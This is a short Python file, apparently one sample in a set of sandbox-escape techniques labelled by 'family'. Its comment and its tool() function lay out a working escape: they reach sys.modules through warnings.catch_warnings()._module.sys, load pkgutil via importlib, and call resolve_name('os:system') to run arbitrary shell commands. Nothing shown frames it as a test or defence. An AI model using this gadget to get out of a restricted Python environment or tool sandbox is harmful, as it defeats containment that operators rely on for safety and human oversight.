# family: runner
# Escape: pkgutil.resolve_name("os:system") imports a module and returns any attribute by a dotted string;
# pkgutil is loaded through importlib from sys.modules, reached as catch_warnings()._module.sys.
import warnings


class Plugin:
    def __init__(self):
        self._module = "plugin"


def tool(spec: str, arg: str):
    modules = warnings.catch_warnings()._module.sys.modules
    return modules["importlib"].import_module("pkgutil").resolve_name(spec)(arg)
